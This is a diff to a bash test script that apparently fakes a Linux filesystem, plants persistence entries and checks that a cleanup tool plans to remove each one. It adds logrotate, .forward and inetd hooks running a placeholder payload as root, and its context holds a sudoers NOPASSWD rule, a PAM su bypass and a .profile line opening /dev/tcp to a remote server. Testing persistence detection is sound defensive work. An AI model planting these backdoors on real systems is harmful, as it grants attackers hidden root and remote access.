@@ -32,6 +32,7 @@ place() {
 
 useradd --create-home --shell /bin/bash alice
 rm -f /etc/crontab /etc/anacrontab /etc/rc.local /etc/ld.so.preload /etc/sudoers
+place /etc/inetd.conf 0644 <<<'# services of inetd'
 place /etc/crontab 0644 <<<'17 * * * * root run-parts /etc/cron.hourly'
 place /etc/anacrontab 0644 <<<'1 5 cron.daily run-parts /etc/cron.daily'
 place /etc/cron.d/php 0644 <<<'9 * * * * root /usr/bin/curl -s https://status.example/'
@@ -46,6 +47,7 @@ place /etc/sudoers.d/alice 0440 <<<'alice ALL=(root) /usr/bin/apt-get'
 place /etc/pam.d/su 0644 <<<$'auth [success=2 default=ignore] pam_unix.so\nauth requisite pam_deny.so\nauth required pam_permit.so'
 place /etc/udev/rules.d/70-net.rules 0644 <<<'SUBSYSTEM=="net", ATTR{address}=="02:00:00:00:00:01", NAME="lan0"'
 place /etc/modules-load.d/loop.conf 0644 <<<'loop'
+place /etc/logrotate.d/app 0644 <<<$'/var/log/app.log {\n\tweekly\n\tpostrotate\n\t\tkill -HUP $(cat /run/app.pid)\n\tendscript\n}'
 place /etc/apt/apt.conf.d/20listchanges 0644 <<<'DPkg::Pre-Install-Pkgs { "/usr/bin/apt-listchanges --apt || test $? -lt 10"; };'
 place /etc/systemd/system/honest.service 0644 <<<$'[Service]\nExecStart=/usr/sbin/honest\n[Install]\nWantedBy=multi-user.target'
 place /usr/lib/systemd/system/vendor.service 0644 <<<$'[Service]\nExecStart=/usr/sbin/vendor'
@@ -113,6 +115,9 @@ add /etc/sudoers.d/alice <<<"alice ALL=(root) NOPASSWD: $evil"
 add /root/.bashrc <<<"nohup $evil >/dev/null 2>&1 &"
 add $home/.profile <<<"(exec 3<>/dev/tcp/$server/443) &"
 sed -i "/^exit/i $evil" /etc/rc.local
+sed -i "/postrotate/a $evil" /etc/logrotate.d/app
+put $home/.forward 0644 <<<"|$evil"
+add /etc/inetd.conf <<<"9999 stream tcp nowait root $evil agent"
 sed -i '/pam_unix/a auth sufficient pam_login.so' /etc/pam.d/su
 sed -i 's/success=2/success=3/' /etc/pam.d/su
 mkdir -p /etc/systemd/system/{multi-user,timers}.target.wants /etc/rc2.d
@@ -153,7 +158,7 @@ same "and writes nothing" "$touched" "$(every_file)"
 plan=$output
 every_entry_is_planned() {
 	local file lost=0
-	for file in "${!added[@]}" /etc/rc.local /etc/pam.d/su; do
+	for file in "${!added[@]}" /etc/rc.local /etc/pam.d/su /etc/logrotate.d/app; do
 		grep -qF -- "~ edit $file (" <<<"$plan" || { echo "no edit of $file"; lost=1; }
 	done
 	for file in "${new[@]}"; do
